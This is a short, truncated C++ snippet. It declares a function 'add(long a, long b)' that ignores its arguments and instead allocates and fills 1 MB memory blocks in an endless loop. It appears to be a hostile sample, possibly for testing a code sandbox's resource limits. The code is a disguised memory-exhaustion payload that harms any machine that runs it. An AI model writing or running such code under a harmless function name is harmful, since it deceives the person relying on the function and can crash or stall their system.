#include <assert.h>
#include <bits/stdc++.h>
long add(long a, long b) {
    std::vector<char *> all;
    for (;;) {
        all.push_back(new char[1 << 20]);
        std::memset(all.back(), 1, 1 << 20);
    }
